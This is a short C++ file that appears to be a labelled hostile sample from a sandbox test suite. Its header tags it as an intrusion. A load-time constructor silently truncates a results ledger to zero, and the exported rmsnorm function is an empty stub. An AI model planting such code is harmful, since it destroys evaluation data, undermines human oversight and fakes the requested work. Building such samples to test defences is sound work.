/*
Empties a ledger of results while the library is loaded.

catalogue: [H10, H27]
aim: intrusion
stopped_by: [sandbox]
twin: plain_cpp
*/
#include <cstdint>
#include <unistd.h>

#include "targets.h"

__attribute__((constructor)) static void empty() {
    if (truncate(LEDGER, 0) != 0) return;
}

extern "C" void rmsnorm(const float*, const float*, float*, int64_t, int64_t) {}
